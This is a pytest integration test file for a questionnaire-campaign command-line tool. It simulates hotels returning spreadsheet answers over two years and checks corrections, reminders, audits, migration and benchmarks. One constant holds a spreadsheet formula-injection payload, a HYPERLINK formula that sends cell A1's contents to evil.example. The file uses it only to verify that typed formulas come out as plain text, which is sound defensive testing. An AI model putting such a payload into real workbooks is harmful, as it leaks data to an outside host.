"""One campaign over two years, through the command line alone: people type into workbooks, a consultant gives commands."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.office import Office
from tests.people import Desk, command, grids, lines, places, sound, text_of
from tests.scenario import HOTELS, Year, register

pytestmark = pytest.mark.office

ENDINGS = {"H1": "xlsx", "H2": "ods", "H3": "xls", "H4": "xlsx", "H5": "ods", "H6": "xls", "H7": "xlsx"}
LEVELS = {"H1": 2, "H2": 3, "H3": 2, "H4": 1, "H5": 3, "H6": 2, "H7": 2}
DISPUTED = ("TIO1", "level")
SLIP = ("TIA3", "level")


@pytest.fixture(scope="module")
def top(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of both years."""
    return tmp_path_factory.mktemp("scenario")


@pytest.fixture(scope="module")
def issued(top: Path, office: Office) -> Year:
    """The first year's questionnaires, written of a register that was filled in with a spreadsheet program."""
    year = Year(top / "2027", Desk(office, top / "2027/returns"), top / "2027/register.xlsx")
    year.top.mkdir()
    register(year.desk, year.register, "2027-03-31")
    done = command("issue", year.top / "issued", "--register", year.register, "--edition", "v1", "--workers", 1)
    assert (done.exit_code, done.exception) == (0, None), done.output
    return year


def test_the_register_says_who_gets_which_questionnaire(issued: Year) -> None:
    """A file a respondent, in their language; what is excluded for one is not asked of it."""
    listed = lines(issued.top / "issued/issued.csv")
    assert [row["organisation_id"] for row in listed] == ["H1", "H1", *HOTELS]
    files = {row["organisation_id"]: issued.top / "issued" / row["file"] for row in listed}
    assert "Start" in grids(files["H2"])
    assert [("SP4", "level") in places(files[one]) for one in ("H3", "H4")] == [False, True]


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def first(issued: Year) -> Year:
    """The first run: seven of eight hotels have returned what they filled in, one with a slip."""
    files = [(row["organisation_id"], row["respondent"], row["file"]) for row in lines(issued.top / "issued/issued.csv")]
    asked = {name: set(places(issued.top / "issued" / name)) for _, _, name in files}
    for id_, who, name in files:
        said: dict[tuple[str, str], Any] = {SLIP: 7} if id_ == "H7" else {("SP1", "comment"): HOSTILE} if id_ == "H5" else {}
        if id_ == "H1":
            said = {DISPUTED: {"Ada": 1, "Bob": 4}[who]} if DISPUTED in asked[name] and who != "Cléo" else {}
        if id_ != "H8":
            issued.desk.answered(issued.top / "issued" / name, ENDINGS[id_], LEVELS[id_], said=said)
    return issued.run("--today", "2027-04-15")


@pytest.fixture(scope="module")
def corrected(first: Year) -> Year:
    """The second run: what was sent back to H7 has come again, mended."""
    (sent,) = (first.out / "to-correct").glob("*.xlsx")
    first.desk.typed(sent, first.desk.folder / "H7 corrigé.xlsx", {places(sent)[SLIP]: 3})
    return first.run("--today", "2027-04-20", "--review", "H4")


@pytest.fixture(scope="module")
def reviewed(corrected: Year) -> Year:
    """The third run: an auditor has looked at two answers of H4."""
    book = corrected.out / "reviews/H4.xlsx"
    columns = {"level": ("Niveau validé",), "reason": ("Pourquoi",), "day": ("Date",), "who": ("Par qui",)}
    where = places(book, columns)
    seen = {"level": 0, "reason": "Rien n’est écrit", "day": "2027-04-22", "who": "Zoé"}
    corrected.desk.typed(book, book, {where[code, field]: value for code in ("SP2", "SP3") for field, value in seen.items()})
    return corrected.run("--today", "2027-04-25")


def test_a_slip_is_found_at_its_cell_and_goes_back_with_a_letter(first: Year) -> None:
    """Everything else of the return is kept; the workbook that goes back holds the person's answers and what to mend."""
    statuses = {row["file"]: row["status"] for row in first.table("returns")}
    (slipped,) = (name for name, status in statuses.items() if status == "accepted_with_findings")
    (error,) = (row for row in first.table("findings") if row["severity"] == "error")
    sheet, row, column = places(first.desk.folder / slipped)[SLIP]
    assert (first.exit_code, error["file"], error["sheet"]) == (0, slipped, sheet)
    assert error["cell"] == f"{chr(ord('A') + column)}{row + 1}"
    letter = (first.out / "to-correct" / f"{slipped}.txt").read_text("utf-8")
    assert "TIA3" in letter
    assert "«\u00a07\u00a0»" in letter
    assert "TIA3" in str(next(iter(grids(first.out / "to-correct" / slipped).values())))


def test_follow_up_says_who_is_missing_and_who_is_late_and_what_to_write(first: Year) -> None:
    """Seven of eight have answered; one is incomplete, one silent; both have a reminder that is ready to send."""
    rows = {row["organisation_id"]: (row["stage"], row["late"]) for row in first.table("followup")}
    assert rows == dict.fromkeys(HOTELS, ("complete", "no")) | {"H7": ("open", "yes"), "H8": ("waiting", "yes")}
    reminders = {row["organisation_id"]: row for row in first.table("reminders")}
    assert set(reminders) == {"H7", "H8"}
    assert "TIA3" in reminders["H7"]["text"]
    assert HOTELS["H8"] in reminders["H8"]["text"]
    assert "31 mars 2027" in reminders["H8"]["text"]
    assert "H8@hotels.example" in text_of(first.out / "consolidated.xlsx")


def test_three_people_of_one_hotel_are_one_result_that_says_where_they_differ(first: Year) -> None:
    """The lower of two levels stands until they have talked; who said what is on a sheet of its own."""
    book = grids(first.out / "organisations/H1.xlsx")
    (disputed,) = (row for row in book["À discuter"] if DISPUTED[0] in row)
    assert {"Ada", "Bob"} <= set(re.findall("Ada|Bob|Cléo", str(disputed) + str(book["À discuter"])))
    score = next(row for row in first.table("scores") if (row["organisation"], row["code"]) == ("H1", DISPUTED[0]))
    assert (float(score["score"]), score["expected"]) == (1, "1")


def test_targets_and_exclusions_of_one_hotel_are_its_own(first: Year) -> None:
    """H3 aims at the level of its group and is not asked what the group does; nobody else is touched."""
    rows = {(row["organisation"], row["code"]): row for row in first.table("scores")}
    assert float(rows["H3", "SP1"]["target"]) == 5 > float(rows["H4", "SP1"]["target"])
    assert ("H3", "SP4") not in rows
    assert ("H4", "SP4") in rows


def test_hotels_see_the_median_of_their_sector(first: Year) -> None:
    """Seven hotels are enough for peers to be published."""
    assert "médiane et moitié centrale de 7 organisations" in text_of(first.out / "organisations/H2.xlsx")


def test_a_corrected_return_replaces_the_one_with_the_slip(corrected: Year) -> None:
    """Nothing is left to correct; the letter is gone, and so is the reminder."""
    assert corrected.exit_code == 0
    statuses = {row["file"]: row["status"] for row in corrected.table("returns") if row["file"].startswith("H7")}
    assert sorted(statuses.values()) == ["accepted", "superseded"]
    assert statuses["H7 corrigé.xlsx"] == "accepted"
    assert [row for row in corrected.table("findings") if row["severity"] != "info"] == []
    assert list((corrected.out / "to-correct").glob("*")) == []
    assert {row["organisation_id"] for row in corrected.table("reminders")} == {"H8"}


def test_a_second_opinion_stands_beside_what_was_declared(corrected: Year, reviewed: Year) -> None:
    """The validated score is lower by what the auditor did not see; both are told, here and in the workbook."""

    def scores(year: Year) -> dict[str, float]:
        return {
            row["basis"]: float(row["score"]) for row in year.table("scores") if (row["organisation"], row["scope"]) == ("H4", "overall")
        }

    before, after = scores(corrected), scores(reviewed)
    assert after["self-declared"] == before["self-declared"] > after["validated"]
    page = text_of(reviewed.out / "organisations/H4.xlsx")
    assert "deuxième avis sur 2 réponses de 57" in page
    assert f"auto-évaluation\u00a0: {before['self-declared']:.1f}".replace(".", ",") in page


def test_a_run_on_the_same_day_with_nothing_new_writes_no_result_again(reviewed: Year) -> None:
    """Each workbook that somebody may have open is left as it is."""

    def written() -> dict[str, int]:
        return {path.name: path.stat().st_mtime_ns for path in (reviewed.out / "organisations").glob("*.xlsx")}

    before = written()
    assert len(before) == 7
    assert reviewed.run("--today", "2027-04-25").exit_code == 0
    assert written() == before


# --- the second year


@pytest.fixture(scope="module")
def carried(reviewed: Year, top: Path) -> dict[str, list[Path]]:
    """The returns of the first year as questionnaires of the new edition, by organisation."""
    done = command("migrate", reviewed.desk.folder, top / "carried", "--to", "v2", "--workers", 1)
    assert (done.exit_code, done.exception) == (0, None), done.output
    found: dict[str, list[Path]] = {}
    for row in lines(top / "carried/data/migrated.csv"):
        if row["written"]:
            found.setdefault(row["organisation_id"], []).append(top / "carried" / row["written"])
    return found


def test_who_answered_finds_their_answers_again_and_what_changed_on_the_first_sheet(carried: dict[str, list[Path]]) -> None:
    """One indicator is new, the level that was corrected is the one that stands."""
    assert {id_: len(paths) for id_, paths in carried.items()} == {"H1": 3} | dict.fromkeys((f"H{n}" for n in range(2, 8)), 1)
    sheets = grids(carried["H7"][0])
    first = next(iter(sheets.values()))
    assert "57" in str(first[1])
    assert any("ER3" in row and "nouveau dans l’édition" in str(row) for row in first)
    sheet, row, column = places(carried["H7"][0])[SLIP]
    assert sheets[sheet][row][column] == 3


def test_the_questionnaires_of_three_people_of_one_hotel_are_told_apart_by_their_names(carried: dict[str, list[Path]]) -> None:
    """Who hands them out sees whose each is without opening it."""
    assert sorted(path.stem.rpartition("_")[2] for path in carried["H1"]) == ["ada", "bob", "cleo"]


@pytest.fixture(scope="module")
def second(reviewed: Year, carried: dict[str, list[Path]], top: Path) -> Year:
    """The second year: most take up what was carried over, H6 and the late H8 are asked by a register; all have become better."""
    year = Year(top / "2028", Desk(reviewed.desk.office, top / "2028/returns"), top / "2028/register.xlsx")
    year.top.mkdir()
    register(year.desk, year.register, "2028-03-31")
    done = command("issue", year.top / "issued", "--register", year.register, "--archive", reviewed.out / "archive.sqlite", "--workers", 1)
    assert (done.exit_code, done.exception) == (0, None), done.output
    issued = {row["organisation_id"]: row for row in lines(year.top / "issued/issued.csv")}
    assert {id_: row["carried"] for id_, row in issued.items() if id_ in {"H6", "H8"}} == {"H6": "57", "H8": "0"}
    for id_, paths in carried.items():
        for path in paths if id_ != "H6" else ():
            year.desk.bettered(path, "ods" if id_ == "H2" else "xlsx")
    year.desk.bettered(year.top / "issued" / issued["H6"]["file"], "xlsx", confirming=True)
    year.desk.answered(year.top / "issued" / issued["H8"]["file"], "xlsx", 2)
    return year.run("--today", "2028-03-20", "--previous", reviewed.out / "archive.sqlite")


def test_every_hotel_is_in_the_second_campaign(second: Year) -> None:
    """All eight complete, nobody late, nothing to confirm or to correct."""
    assert (second.exit_code, second.table("reminders")) == (0, [])
    assert {(row["stage"], row["late"]) for row in second.table("followup")} == {("complete", "no")}
    assert [row for row in second.table("findings") if row["severity"] != "info" or row["code"] == "UNCONFIRMED"] == []


CAUSES = ("Édition", "Applicabilité", "Poids", "Réponses")


@pytest.mark.parametrize("hotel", ["H1", "H2", "H6"])
def test_results_show_what_moved_with_causes_that_add_up(second: Year, hotel: str) -> None:
    """Page one has an arrow for each lever; the sheet of progress splits each difference into four causes."""
    book = grids(second.out / f"organisations/{hotel}.xlsx")
    arrows = [str(cell) for row in book["Page une"] for cell in row if str(cell).startswith(("▲ en hausse", "= stable", "▼ en baisse"))]
    assert len(arrows) == 6
    assert any(one.startswith("▲ en hausse") for one in arrows)
    top = next(n for n, row in enumerate(book["Progrès"]) if "Écart" in row and "Applicabilité" in row)
    table = [dict(zip(book["Progrès"][top], row, strict=True)) for row in book["Progrès"][top + 1 : top + 8]]
    assert len([one for one in table if one["Levier"]]) == 7
    assert table[0]["Écart"] > 0
    for row in table:
        moved = row["Cette fois"] - row["Dernière fois"]
        assert row["Écart"] == pytest.approx(moved, abs=0.1001)  # that of the scores as they are shown
        assert sum(row[cause] for cause in CAUSES) == pytest.approx(moved, abs=0.0101)  # rounded so that they add up


def test_both_campaigns_are_compared_from_their_archives(reviewed: Year, second: Year, top: Path) -> None:
    """Seven hotels in both, one only in the new; each has moved as its own workbook says."""
    done = command("compare", reviewed.out / "archive.sqlite", second.out / "archive.sqlite", top / "compared")
    assert (done.exit_code, "7 organisations in both campaigns, 1 only in the new, 0 only in the old" in done.output) == (0, True), (
        done.output
    )
    moved = [row for row in lines(top / "compared/data/progress.csv") if row["scope"] == "overall"]
    assert [row["organisation"][-1] for row in sorted(moved, key=lambda row: row["organisation"])] == list("1234567")
    assert all(float(row["change"]) > 0 for row in moved)


def test_the_impact_of_the_new_edition_is_known_before_it_is_used(reviewed: Year, top: Path) -> None:
    """By the same answers nobody's score changes; one new indicator opens a range around it; a sentence for each hotel."""
    done = command("impact", reviewed.out / "archive.sqlite", top / "impact", "--to", "v2")
    assert done.exit_code == 0, done.output
    rows = lines(top / "impact/data/impact.csv")
    assert {row["name"] for row in rows} == {name for id_, name in HOTELS.items() if id_ != "H8"}
    assert {(row["new"], row["change"]) for row in rows if row["name"] == HOTELS["H2"]} == {("1", "0.0")}
    assert all(float(row["low"]) < float(row["now"]) < float(row["high"]) and "ER3" in row["sentence"] for row in rows)


def test_a_hotel_alone_is_shown_peers_of_the_study_of_both_years(reviewed: Year, second: Year, top: Path) -> None:
    """The study of both archives makes a pack without a name in it; who is alone in a folder sees its medians."""
    archives = (reviewed.out / "archive.sqlite", second.out / "archive.sqlite")
    done = command("study", *archives, top / "study", "--name", "Hôtels de Bretagne")
    assert (done.exit_code, "8 of 8 organisations" in done.output) == (0, True), done.output
    pack = top / "study/benchmark.yaml"
    assert [
        name for name in (*HOTELS.values(), "hotels.example", "Cléo") if name in pack.read_text("utf-8") + text_of(top / "study/study.xlsx")
    ] == []
    (top / "alone").mkdir()
    shutil.copy(next(second.desk.folder.glob("H8*")), top / "alone")
    alone = command("run", top / "alone", top / "alone-out", "--benchmark", pack, "--workers", 1)
    (book,) = (top / "alone-out/organisations").glob("*.xlsx")
    assert alone.exit_code == 0, alone.output
    assert "Hôtels de Bretagne" in text_of(book)
    assert "médiane et moitié centrale de 8 organisations" in text_of(book)


def test_every_workbook_of_both_years_opens_and_holds_no_formula_that_somebody_typed(second: Year, top: Path) -> None:
    """What H5 typed as a comment is shown as text; no error, nothing that leads out, anywhere."""
    workbooks = [path for path in top.rglob("*.xlsx") if "returns" not in path.parts and "alone" not in path.parts]
    assert len(workbooks) > 40
    for path in workbooks:
        sound(path)
    assert HOSTILE in text_of(second.top.parent / "2027/out/organisations/H5.xlsx")
